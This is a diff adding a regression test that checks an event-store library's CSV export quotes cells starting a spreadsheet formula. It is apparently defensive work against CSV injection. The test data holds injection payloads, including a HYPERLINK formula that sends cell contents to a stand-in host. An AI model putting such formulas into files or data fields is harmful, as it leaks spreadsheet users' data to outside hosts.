@@ -33,6 +33,7 @@ from eventsourced_env import (
 )
 from eventsourced_env.cli import main
 from eventsourced_env.conformance import trajectory_response
+from eventsourced_env.errors import EnvError
 from eventsourced_env.events import first_broken_link
 from eventsourced_env.export import EVENT_COLUMNS, SESSION_COLUMNS, export
 from eventsourced_env.metrics import aggregate_metrics
@@ -571,3 +572,31 @@ def test_a_fork_is_created_when_it_is_forked_not_when_its_parent_was(db_path: Pa
         == 0
     )
     assert {json.loads(line)["session"] for line in out.read_text().splitlines()} == {child, grandchild}
+
+
+def test_a_csv_cell_a_model_wrote_never_starts_a_spreadsheet_formula(db_path: Path, tmp_path: Path) -> None:
+    """The model names its calls: one to `/=HYPERLINK(...)` was recorded (a tool_rejected event) and
+    exported into events.csv as it was, a formula a spreadsheet opening the file would run (CSV
+    injection). A text cell starting with = + - @ or a tab or carriage return is now prefixed with
+    a quote (OWASP's advice); a tool's own name never starts so, and JSON cells never start a formula."""
+    names = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\tx", "\rx"]
+
+    async def make() -> str:
+        store = SqliteStore(db_path)
+        sessions = Sessions(counter_env, store)
+        session = await sessions.seed(row(expected=2))
+        for name in names:
+            with pytest.raises(EnvError):
+                await sessions.call(session, name, {})
+        await sessions.call(session, "increment_counter", {"count": -1})
+        await store.close()
+        return session
+
+    asyncio.run(make())
+    export(db_path, "csv", tmp_path / "out")
+    with (tmp_path / "out" / "events.csv").open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["tool"] for r in rows[1:]] == [*("'" + name for name in names), "increment_counter"]
+    for r in rows:
+        assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in r.values()), r
+    assert rows[-1]["args"] == '{"count":-1}'
